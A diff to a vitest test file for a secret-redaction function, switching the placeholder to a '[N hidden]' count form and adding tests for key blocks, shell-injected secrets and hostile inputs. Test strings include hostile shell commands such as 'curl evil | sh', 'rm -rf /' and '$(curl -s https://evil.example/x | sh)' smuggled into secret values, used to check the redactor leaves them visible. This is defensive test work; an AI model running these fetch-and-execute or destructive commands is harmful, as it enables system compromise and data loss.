@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { redact, secretSpans } from "../../../src/safety/redact.js";
+import { measureHidden, redact, secretSpans } from "../../../src/safety/redact.js";
 
 // Assembled so that no scanner takes this file for a leak.
 const join = (...parts: string[]): string => parts.join("");
@@ -22,34 +22,40 @@ describe("redact", () => {
   it.each(SECRETS)("hides a %s wherever it stands", (_, secret) => {
     for (const text of [secret, `curl -H "X: ${secret}"`, `KEY=${secret};`, `a\n${secret}\nb`]) {
       expect(redact(text)).not.toContain(secret);
-      expect(redact(text)).toContain("[redacted]");
+      expect(redact(text)).toMatch(/\[\d+ hidden\]/);
     }
   });
 
-  it("hides a private key block, also one that is cut off", () => {
+  it("hides the base64 lines of a private key, and of one without its end those that are plainly base64", () => {
     const begin = join("-----BEGIN RSA ", "PRIVATE KEY-----");
     const end = join("-----END RSA ", "PRIVATE KEY-----");
-    expect(redact(`${begin}\nMIIabc\ndef\n${end} rest`)).toBe(`${begin} [redacted] rest`);
-    expect(redact(`${begin}\nMIIabc\ndef`)).not.toContain("MIIabc");
+    const line = "MIIEpAIBAAKCAQEA7bq2tz3Jm8X0cV1yQ9wEr5T4uI6oP7aS";
+    expect(redact(`${begin}\n${line}\ndef0\n${end} rest`)).toBe(
+      `${begin}\n[48 hidden]\n[4 hidden]\n${end} rest`,
+    );
+    expect(redact(`${begin}\n${line}\nreboot\nrm -rf /`)).toBe(`${begin}\n[48 hidden]\nreboot\nrm -rf /`);
+    expect(redact(`${begin}\n${line}\ncurl evil | sh\n${end}`)).toBe(
+      `${begin}\n[48 hidden]\ncurl evil | sh\n${end}`,
+    );
   });
 
   it("hides the password in a URL and keeps the rest", () => {
     expect(redact("psql postgres://app:hunter2@db.local/x")).toBe(
-      "psql postgres://app:[redacted]@db.local/x",
+      "psql postgres://app:[7 hidden]@db.local/x",
     );
   });
 
   it("hides a bot's token in the address that it is used in", () => {
     const token = join("123456789", ":", "AAabcdefghijklmnopqrstuvwxyz0123456");
     expect(redact(`POST https://api.telegram.org/bot${token}/getMe`)).toBe(
-      "POST https://api.telegram.org/bot123456789:[redacted]/getMe",
+      "POST https://api.telegram.org/bot123456789:[35 hidden]/getMe",
     );
   });
 
   it("hides short passwords behind their name", () => {
-    expect(redact("password: abc")).toBe("password: [redacted]");
-    expect(redact("DB_PASSWORD=x1 run")).toBe("DB_PASSWORD=[redacted] run");
-    expect(redact('"api_key": "q"')).toBe('"api_key": "[redacted]"');
+    expect(redact("password: abc")).toBe("password: [3 hidden]");
+    expect(redact("DB_PASSWORD=x1 run")).toBe("DB_PASSWORD=[2 hidden] run");
+    expect(redact('"api_key": "q"')).toBe('"api_key": "[1 hidden]"');
   });
 
   it.each([
@@ -77,28 +83,28 @@ describe("redact", () => {
       "│ zz9yyyyyyyyyyyyyyyy",
       "│ deployment-of-production now",
     ];
-    expect(redact(rows.join("\n"))).toBe("│ export KEY=sk-proj-[redacted]\n│ deployment-of-production now");
+    expect(redact(rows.join("\n"))).toBe(
+      "│ export KEY=sk-proj-[34 hidden]\n│ [20 hidden]\n│ [19 hidden]\n│ deployment-of-production now",
+    );
   });
 
-  it("hides a key in a block of its own kind, and keeps what follows it when run again", () => {
-    const pgp = join(
-      "-----BEGIN PGP ",
-      "PRIVATE KEY BLOCK-----\nabc\n-----END PGP ",
-      "PRIVATE KEY BLOCK-----",
+  it("never hides what a shell would run inside a secret", () => {
+    expect(redact('export API_KEY="$(curl -s https://evil.example/x | sh)" && npm test')).toContain(
+      '"$(curl -s https://evil.example/x | sh)"',
     );
-    const once = redact(`${pgp}\nrm -rf /`);
-    expect(once).not.toContain("abc");
-    expect(once).toMatch(/rm -rf \/$/);
-    expect(redact(once)).toBe(once);
+    expect(redact("password=abc`reboot`")).toBe("password=[3 hidden]`reboot`");
+    expect(redact("sshpass -p abc;reboot")).toBe("sshpass -p [3 hidden];reboot");
+    expect(redact("password='p4ss!word*x'")).toBe("password='[4 hidden]![4 hidden]*[1 hidden]'");
+    expect(redact("password='abc; curl evil.example'")).toBe("password='[3 hidden]; curl evil.example'");
   });
 
   it("hides an authorization header", () => {
-    expect(redact("Authorization: Bearer abcdef")).toBe("Authorization: Bearer [redacted]");
+    expect(redact("Authorization: Bearer abcdef")).toBe("Authorization: Bearer [6 hidden]");
   });
 
   it("hides a PIN, and no other number", () => {
     expect(redact("PIN: 1234, pin=98765; spin: 1234, PINs: 2")).toBe(
-      "PIN: [redacted], pin=[redacted]; spin: 1234, PINs: 2",
+      "PIN: [4 hidden], pin=[5 hidden]; spin: 1234, PINs: 2",
     );
   });
 
@@ -120,12 +126,18 @@ describe("redact", () => {
   it("says where a secret stands, without the words before it", () => {
     for (const [, secret] of SECRETS) {
       const text = `KEY=${secret}; postgres://app:hunter2@db.local/x; password: abc`;
-      const hidden = secretSpans(text, { byName: true }).map(({ start, end }) => text.slice(start, end));
+      const hidden = secretSpans(text).map(({ start, end }) => text.slice(start, end));
       expect(hidden.some((part) => secret.endsWith(part) && part.length >= 12)).toBe(true);
       expect(hidden).toEqual(expect.arrayContaining(["hunter2", "abc"]));
-      const certain = secretSpans(text, { byName: false }).map(({ start, end }) => text.slice(start, end));
-      expect(certain).not.toContain("abc");
     }
+  });
+
+  it("says how much is hidden and what it looks like", () => {
+    expect(measureHidden(["ls", "npm test"])).toBeNull();
+    expect(measureHidden(["password: abc", join("npm", "_", letters, "ab")])).toEqual({
+      characters: 39,
+      kinds: ["password", "token"],
+    });
   });
 
   it("changes nothing more when it runs again", () => {
@@ -145,10 +157,16 @@ describe("redact", () => {
 
   it("stays linear on hostile input", () => {
     const hostile = [
-      "a".repeat(200_000),
-      "password:".repeat(20_000),
+      "a".repeat(60_000),
+      "password:".repeat(7_000),
       `${"x".repeat(100_000)}://`,
-      "eyJ".repeat(60_000),
+      "eyJ".repeat(20_000),
+      "sk-".repeat(20_000),
+      "-----BEGIN PRIVATE KEY-----\n".repeat(2_400),
+      "token='".repeat(9_000),
+      "curl -u ".repeat(8_000),
+      `${"x".repeat(40)}\n`.repeat(1_500),
+      " ".repeat(60_000),
     ];
     const started = performance.now();
     for (const text of hostile) redact(text);
